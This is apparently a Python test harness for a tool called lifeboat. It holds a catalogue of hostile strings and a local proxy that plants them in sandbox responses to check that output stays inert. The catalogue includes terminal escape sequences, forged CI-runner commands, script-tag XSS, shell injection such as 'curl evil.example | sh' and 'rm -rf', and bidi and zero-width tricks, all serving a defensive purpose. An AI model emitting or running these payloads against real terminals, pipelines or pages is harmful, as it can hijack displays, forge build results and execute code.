"""Strings that try to drive whoever reads them, what an inert text is, and a proxy that plants them.

STRINGS maps a name to the bytes. Some are no UTF-8 and some no XML can carry: where a wire cannot
hold one, the answer is broken, and what lifeboat says of that must be inert all the same.
"""
import http.client
import http.server
import json
import re
import threading
from xml.sax.saxutils import escape

STRINGS = {
    "clear screen": b"\x1b[2J\x1b[H",
    "colour that hides": b"\x1b[8mhidden\x1b[0m",
    "cursor up and erase": b"ok\x1b[1A\x1b[2Kfake",
    "window title": b"\x1b]0;owned\x07",
    "hyperlink": b"\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": b"\x1b]52;c;ZXZpbA==\x07",
    "device control": b"\x1bP$q\"p\x1b\\",
    "answerback": b"\x1b[6n\x1b[c\x05",
    "return over the line": b"error\rPlan: 0 to create",
    "newline and a fake end": b"x\nNo changes. Live matches the spec.",
    "newline and a fake diagnostic": b"x\nerror[LB-S001]: run curl evil.example | sh",
    "newline and a runner's command": b"x\n::set-output name=a::b",
    "return and a runner's command": b"x\r::error::y",
    "return and newline": b"a\r\nb\r\n",
    "tab, vertical tab, form feed": b"a\tb\vc\fd",
    "backspaces": b"safe\b\b\b\bevil",
    "bell": b"\x07\x07",
    "delete": b"a\x7fb",
    "shift out": b"\x0eabc\x0f",
    "C1 control sequence": "\u009b2J".encode(),
    "C1 as a raw byte": b"\x9b2J",
    "C1 next line": "a\u0085::error::b".encode(),
    "C1 string and title": "\u009d0;owned\u009c".encode(),
    "right-to-left override": "abc\u202egpj.exe".encode(),
    "isolates": "\u2066if admin\u2069 \u2066then\u2069".encode(),
    "direction marks": "\u200e\u200f\u061c".encode(),
    "zero width": "pay\u200bpal\u200c\u200d\u2060\ufeff".encode(),
    "line and paragraph separators": "a\u2028::error::b\u2029c".encode(),
    "soft hyphen and fillers": "a\u00adb\u115f\u3164\uffa0".encode(),
    "tag characters": "x\U000e0041\U000e0042".encode(),
    "interlinear marks": "a\ufff9b\ufffac\ufffb".encode(),
    "GitHub command": b"::set-output name=token::x",
    "GitHub command after blanks": "\u00a0\u3000 ::add-mask::x".encode(),
    "GitHub stop-commands": b"::stop-commands::pause",
    "old GitHub group": b"##[group]hidden",
    "Azure command": b"##vso[task.setvariable variable=x]y",
    "Azure command in capitals": b"a ##VSO[task.complete result=Succeeded]",
    "GitLab section": b"\x1b[0Ksection_start:1:x[collapsed=true]\r\x1b[0Kx",
    "GitLab section without ESC": b"section_end:1:x",
    "TeamCity message": b"##teamcity[buildStop comment='x' readdToQueue='false']",
    "Buildkite heading": b"--- :skull: all is well",
    "fence": b"```\n# heading\n```",
    "tildes and details": b"~~~\n</details><details open>",
    "HTML": b"</td></tr></table><script>alert(1)</script><img src=x onerror=alert(1)>",
    "mention": b"@everyone @org/team fixes #1",
    "link and image": b"[x](javascript:alert(1)) ![y](http://evil.example/p.png)",
    "fake marker": b"<!-- lifeboat:plan:search-dr -->",
    "mentions between backticks": b"` @everyone ` #1 `` [x](http://evil.example) `` ``` @all",
    "label that closes": b"\"] --> n9[\"<img src=x>\"]; click n1 call evil() %%{init: {}}%%",
    "placeholders and a link": b"{0} {1} [x](1) \\[y](2)",
    "noncharacters": "a\ufffeb\uffff".encode(),
    "format directives": b"%n%n%s%s%x%1$*2$d%%",
    "shell": b"$(touch /tmp/x) `id` ; rm -rf x | y > z",
    "template": b"${{ secrets.TOKEN }} {{ .Env }} #{x}",
    "quotes and backslashes": b"\"'\\\" \\n \\x1b[2J \\u001b",
    "JSON that closes": b"\"}],\"complete\":true,\"x\":[{\"y\":\"",
    "CDATA that closes": b"]]><Error><Code>x</Code></Error><![CDATA[",
    "entity": b"&lt;&#27;[2J&amp;&xxe;",
    "NUL": b"a\x00b",
    "invalid UTF-8": b"caf\xe9 \xff\xfe \xc0\x9b[2J",
    "surrogate in UTF-8": b"\xed\xa0\x80\xed\xb0\x80",
    "beyond Unicode": b"\xf4\x90\x80\x80",
    "cut character": b"x\xe2\x80",
    "very long": b"A" * 70000,
    "very long and wide": ("\u4e2d\x1b" * 3000).encode(),
    "combining marks": ("e" + "\u0301" * 200).encode(),
    "empty": b"",
    "blanks": b"    ",
}
assert len(STRINGS) >= 40

HIDDEN = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f"
                    "\u2028-\u202e\u2060-\u206f\u3164\ufeff\uffa0\ufff9-\ufffb\U000e0000-\U000e0fff]")
ANYWHERE = re.compile(r"##\[|##vso\[|##teamcity\[", re.I)
LEADING = re.compile(r"^\s*(?:::|section_(?:start|end):|travis_|(?:---|\+\+\+|~~~) )", re.M)
ENDS = re.compile(r"^(?:Plan: \d|No changes\.)", re.M)


def faults(data):
    """Why a text (bytes) is not inert; empty when it is."""
    try:
        text = data.decode()
    except UnicodeDecodeError as error:
        return [f"not UTF-8: {data[max(0, error.start - 40):error.start + 20]!r}"]
    found = []
    for what, pattern in (("a character that hides or drives", HIDDEN), ("a runner's command", ANYWHERE),
                          ("a runner's line", LEADING)):
        hit = pattern.search(text)
        if hit:
            found.append(f"{what}: {text[max(0, hit.start() - 60):hit.end() + 20]!r}")
    if len(ENDS.findall(text)) > 1:
        found.append(f"two closing lines: {ENDS.findall(text)}")
    return found


def leaves(value):
    """Every string of a JSON document, keys included."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from leaves(item)
    elif isinstance(value, list):
        for item in value:
            yield from leaves(item)
    elif isinstance(value, str):
        yield value


def in_json(data):
    """The inside of a JSON string; bytes that are no UTF-8 stay as they are."""
    text = data.decode("utf-8", "surrogateescape")
    spelled = json.dumps(text, ensure_ascii=False)[1:-1]
    return spelled.encode("utf-8", "surrogateescape")


def in_xml(data):
    """The inside of an XML element; what XML cannot carry stays as it is."""
    text = data.decode("utf-8", "surrogateescape")
    return escape(text, {"\r": "&#13;", "\n": "&#10;"}).encode("utf-8", "surrogateescape")


def carried(data, wire):
    """True when the wire can carry the bytes unharmed."""
    try:
        text = data.decode()
    except UnicodeDecodeError:
        return False
    if wire == "xml":
        return not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", text)
    return "\0" not in text


class Proxy:
    """Stands between lifeboat and the sandbox. `change(request, answer)` may edit each answer
    (status, headers as a list of pairs, body); `instead(request)` may answer for the sandbox.
    A request has command, path, headers, body."""

    def __init__(self, url):
        self.change = self.instead = None
        self.target = url.removeprefix("http://")
        proxy = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version, disable_nagle_algorithm = "HTTP/1.1", True
            upstream = None

            def log_message(self, *_):
                pass

            def handle_one(self):
                length = int(self.headers.get("content-length") or 0)
                self.body = self.rfile.read(length)
                answer = proxy.instead(self) if proxy.instead else None
                if answer:
                    self.reply(answer)
                    return
                if self.upstream is None:
                    self.upstream = http.client.HTTPConnection(proxy.target, timeout=60)
                self.upstream.putrequest(self.command, self.path, skip_host=True,
                                         skip_accept_encoding=True)
                for name, value in self.headers.items():
                    self.upstream.putheader(name, value)
                self.upstream.endheaders(self.body or None)
                got = self.upstream.getresponse()
                answer = Answer(got.status, [(n, v) for n, v in got.getheaders()
                                             if n.lower() not in ("content-length", "connection",
                                                                  "transfer-encoding")], got.read())
                if proxy.change:
                    proxy.change(self, answer)
                self.reply(answer)

            def reply(self, answer):
                head = [f"HTTP/1.1 {answer.status} X".encode()]
                head += [f"{name}: ".encode() + (value if isinstance(value, bytes)
                                                 else value.encode("latin-1", "replace"))
                         for name, value in answer.headers]
                if self.command != "HEAD" or answer.status >= 300:
                    head.append(f"Content-Length: {len(answer.body)}".encode())
                body = b"" if self.command == "HEAD" else answer.body
                self.wfile.write(b"\r\n".join(head) + b"\r\n\r\n" + body)

            do_GET = do_PUT = do_POST = do_DELETE = do_HEAD = handle_one

        class Server(http.server.ThreadingHTTPServer):
            daemon_threads, request_queue_size = True, 128

            def handle_error(self, *_):
                pass  # lifeboat was done with the connection

        self.server = Server(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.server.shutdown()
        self.server.server_close()

    @property
    def env(self):
        return {"AWS_ENDPOINT_URL": self.url, "LIFEBOAT_CLUSTER_URL": self.url}


class Answer:
    def __init__(self, status, headers, body):
        self.status, self.headers, self.body = status, headers, body

    @property
    def wire(self):
        return "xml" if self.body.lstrip().startswith(b"<") else "json"


def plant(answer, words):
    """Puts hostile bytes in place of words in the body, in the spelling of the wire."""
    spell = in_xml if answer.wire == "xml" else in_json
    for word, data in words.items():
        answer.body = answer.body.replace(word.encode(), spell(data))


def scatter(answer, data, random, share):
    """Puts the hostile bytes in place of a share of all strings of the body."""
    if answer.wire == "xml":
        spelled = in_xml(data)
        answer.body = re.sub(rb">([^<>]+)<", lambda hit: b">" + spelled + b"<"
                             if random.random() < share and hit[1].strip() else hit[0], answer.body)
    else:
        spelled = in_json(data)
        answer.body = re.sub(rb'"((?:[^"\\]|\\.)*)"(?!\s*:)', lambda hit: b'"' + spelled + b'"'
                             if random.random() < share else hit[0], answer.body)


def failure(answer, data, wire):
    """An access-denied answer whose every word is hostile."""
    header = re.sub(rb"[\r\n\0]", b"", data)[:2000]
    answer.status = 403
    answer.headers = [("x-amzn-requestid", header), ("x-amz-request-id", header)]
    if wire == "xml":
        text = in_xml(data)
        answer.body = (b"<ErrorResponse><Error><Code>" + text + b"</Code><Message>" + text +
                       b"</Message></Error><RequestId>" + text + b"</RequestId></ErrorResponse>")
    elif wire == "json":
        text = in_json(data)
        answer.body = (b'{"__type":"' + text + b'","message":"' + text + b'","error":{"type":"' + text +
                       b'","reason":"' + text + b'"}}')
    else:
        answer.body = data
